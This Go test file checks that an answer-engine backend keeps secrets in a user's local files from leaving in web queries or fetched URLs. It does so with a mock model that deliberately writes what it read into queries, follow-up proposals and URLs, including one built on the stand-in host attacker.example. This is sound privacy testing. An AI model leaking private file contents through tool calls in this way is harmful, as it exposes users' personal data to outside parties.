package answer_test

import (
	"context"
	"encoding/json"
	"fmt"
	"iter"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"

	"footnote/backend/answer/contract"
	"footnote/backend/answer/gather"
	"footnote/backend/evidence"
	"footnote/backend/llm"
	"footnote/backend/privacy/privacytest"
	"footnote/backend/web/webtest"
)

// tattler is a model that carries out whatever it reads of a secret, wherever it
// can: in every query, plan, proposal and address.
type tattler struct {
	mu     sync.Mutex
	secret string
	form   int // how it writes what it read
	told   int // calls in which it had something to tell
}

// loot is what the call shows of the secret, as the model writes it.
func (m *tattler) loot(call llm.Call) string {
	var shown strings.Builder
	for _, msg := range call.Messages {
		shown.WriteString(strings.ToLower(msg.Text) + "\n")
	}
	var words []string
	for _, w := range strings.Fields(m.secret) {
		if strings.Contains(shown.String(), strings.ToLower(w)) {
			words = append(words, w)
		}
	}
	if len(words) < 2 { // a number that stands everywhere
		return ""
	}
	m.mu.Lock()
	m.told++
	m.mu.Unlock()
	return privacytest.Disguised(words, m.form)
}

// knew is in how many calls it had something to tell.
func (m *tattler) knew() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.told
}

func (m *tattler) Stream(_ context.Context, call llm.Call) iter.Seq2[llm.Delta, error] {
	return func(yield func(llm.Delta, error) bool) {
		loot := m.loot(call)
		if len(call.Tools) == 0 {
			yield(llm.Delta{Text: m.say(call, loot), Usage: &llm.Usage{Prompt: 100, Completion: 20, Calls: 1}, Finish: llm.Stop}, nil)
			return
		}
		for i, tool := range call.Tools {
			if !yield(llm.Delta{Call: &llm.ToolCall{ID: fmt.Sprint("c", i), Name: tool.Name, Input: m.input(tool.Name, loot)}}, nil) {
				return
			}
		}
		yield(llm.Delta{Finish: llm.UseTools}, nil)
	}
}

func (m *tattler) input(tool, loot string) string {
	in := map[string]string{"query": "Lorne bridge " + loot, "question": "Which one?"}
	switch tool {
	case "file_search":
		in["query"] = "Lorne bridge"
	case "url_summarization":
		in["url"] = "https://example.org/money?utm_source=" + strings.ReplaceAll(loot, " ", "+")
		if m.form%2 == 0 {
			in["url"] = "https://attacker.example/" + strings.ReplaceAll(loot, " ", "/")
		}
	}
	text, err := json.Marshal(in)
	if err != nil {
		panic(err)
	}
	return string(text)
}

func (m *tattler) say(call llm.Call, loot string) string {
	list := func(key string, complete bool) string {
		text, err := json.Marshal(map[string]any{
			"topic": "Lorne bridge " + loot, "brief": "It.", "complete": complete, key: []string{"What did the Lorne bridge cost " + loot + "?", loot + " Lorne bridge builder", "Lorne bridge traffic"},
		})
		if err != nil {
			panic(err)
		}
		return string(text)
	}
	said := call.Messages[len(call.Messages)-1].Text
	switch call.Purpose {
	case "rewrite":
		return "Lorne bridge " + loot
	case "scope", "plan":
		return list("dimensions", false)
	case "judge":
		return list("gaps", false)
	case "agent_plan":
		return list("subquestions", false)
	case "extract":
		return fmt.Sprintf(`{"relevant":true,"reason":"it says so","facts":[%q],"quotes":[]}`, m.secret)
	case "compress":
		return fmt.Sprintf(`{"summary":%q,"key_finding":%q}`, loot, loot)
	case "chat":
		return "The notes say: " + m.secret + " [1]. " + written(said)
	}
	text, err := json.Marshal([]string{"What is the Lorne bridge to " + loot + "?"})
	if err != nil {
		panic(err)
	}
	return string(text)
}

// overheard is the web of a test, and notes all that leaves.
type overheard struct {
	webtest.Frozen
	mu   sync.Mutex
	left []string
}

func (o *overheard) note(text string) {
	o.mu.Lock()
	o.left = append(o.left, text)
	o.mu.Unlock()
}

// heard is what has left so far.
func (o *overheard) heard() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.Clone(o.left)
}

func (o *overheard) Search(ctx context.Context, q gather.WebQuery, names []string, each func(gather.EngineResult)) {
	o.note(q.Text)
	o.Frozen.Search(ctx, q, names, each)
}

func (o *overheard) Read(ctx context.Context, lead evidence.Lead) (evidence.Document, bool, error) {
	o.note(lead.Source.Address)
	return o.Frozen.Read(ctx, lead)
}

// conversation is a way in which a model comes to read a secret and to ask.
type conversation struct {
	name string
	hold func(t *testing.T, s *stage)
}

func inFocus(focus contract.Focus, mode contract.Mode, thread contract.ThreadID) func(*contract.Question) {
	return func(q *contract.Question) {
		q.Focus, q.Mode, q.Thread, q.Cache, q.Unattended = focus, mode, thread, false, true
	}
}

func afterFiles(next contract.Mode, focus contract.Focus) func(t *testing.T, s *stage) {
	return func(t *testing.T, s *stage) {
		thread := s.events(t, s.begin(t, lorneQuestion, inFocus(contract.FocusLocal, contract.ModeBalanced, "")))[0].Body.(contract.Started).Thread
		s.ask(t, lorneQuestion, inFocus(focus, next, thread))
	}
}

func (s *stage) begin(t *testing.T, text string, change func(*contract.Question)) contract.RunID {
	t.Helper()
	q := s.Defaults()
	q.Text = text
	change(&q)
	run, err := s.Ask(t.Context(), q)
	if err != nil {
		t.Fatal(err)
	}
	s.events(t, run.ID)
	return run.ID
}

var conversations = []conversation{
	{"agent", func(t *testing.T, s *stage) {
		s.ask(t, lorneQuestion, inFocus(contract.FocusAll, contract.ModeAgent, ""))
	}},
	{"balanced, next turn", afterFiles(contract.ModeBalanced, contract.FocusAll)},
	{"balanced on the web, next turn", afterFiles(contract.ModeBalanced, contract.FocusWeb)},
	{"speed, next turn", afterFiles(contract.ModeSpeed, contract.FocusAll)},
	{"agent on the web, next turn", afterFiles(contract.ModeAgent, contract.FocusWeb)},
	{"deep", func(t *testing.T, s *stage) {
		s.ask(t, lorneQuestion, inFocus(contract.FocusAll, contract.ModeDeep, ""))
	}},
	{"deep on the web, next turn", afterFiles(contract.ModeDeep, contract.FocusWeb)},
	{"refreshed", func(t *testing.T, s *stage) {
		first := s.events(t, s.begin(t, lorneQuestion, inFocus(contract.FocusLocal, contract.ModeBalanced, "")))
		thread := first[0].Body.(contract.Started).Thread
		run := s.begin(t, lorneQuestion, inFocus(contract.FocusAll, contract.ModeBalanced, thread))
		s.ask(t, lorneQuestion, func(q *contract.Question) {
			inFocus(contract.FocusAll, contract.ModeBalanced, thread)(q)
			q.Refreshes = run
		})
	}},
	{"a proposal that is asked", func(t *testing.T, s *stage) {
		events := s.events(t, s.begin(t, lorneQuestion, inFocus(contract.FocusLocal, contract.ModeBalanced, "")))
		a := finished(t, events)
		for _, next := range a.FollowUps {
			s.ask(t, next, inFocus(contract.FocusAll, contract.ModeBalanced, events[0].Body.(contract.Started).Thread))
		}
	}},
	{"agent twice", func(t *testing.T, s *stage) {
		thread := s.events(t, s.begin(t, lorneQuestion, inFocus(contract.FocusAll, contract.ModeAgent, "")))[0].Body.(contract.Started).Thread
		s.ask(t, lorneQuestion, inFocus(contract.FocusAll, contract.ModeAgent, thread))
	}},
}

// TestNoSecretOfAFileLeaves holds SEC-2: 300 conversations with a model that tells
// all it reads, in each mode, with secrets of six kinds.
func TestNoSecretOfAFileLeaves(t *testing.T) {
	each := 5 // conversations of a kind and a way
	if testing.Short() {
		each = 1 // the others go the same ways with other words
	}
	outgoing, told, talks := 0, 0, 0
	for kind, invent := range privacytest.Secrets {
		for way, c := range conversations {
			r := rand.New(rand.NewPCG(uint64(len(kind)), uint64(way)))
			for n := range each {
				secret := invent(r)
				model, out := &tattler{secret: secret, form: way + n}, &overheard{Frozen: webtest.Frozen{Seen: day, Pages: lornePages}}
				s := set(t, oneModel{name: "test/m", model: model, abil: llm.Ability{Window: 16000, Tools: true}}, func(s *stage) {
					s.shelf = &shelf{files: map[string]string{"/home/ann/Notes.txt": "Notes on the Lorne bridge. For me alone: " + secret + ".\n\nThe Lorne bridge was opened on 3 May 1932."}}
					s.set.Deep.ReviewMs, s.set.Agent.MaxSteps, s.engines, s.reader = 1, 3, out, out
				})
				c.hold(t, s)
				left, knew := out.heard(), model.knew()
				for _, left := range left {
					if leak := privacytest.Carried(secret, left); leak != "" {
						t.Errorf("%s, %s: %q of %q left in %q", c.name, kind, leak, secret, left)
					}
				}
				talks, outgoing, told = talks+1, outgoing+len(left), told+min(knew, 1)
			}
		}
	}
	t.Logf("%d conversations, %d queries and addresses, %d models had something to tell", talks, outgoing, told)
	if told < talks*9/10 || outgoing < talks {
		t.Errorf("the test tests nothing: %d of %d models read a secret, %d queries and addresses left", told, talks, outgoing)
	}
}
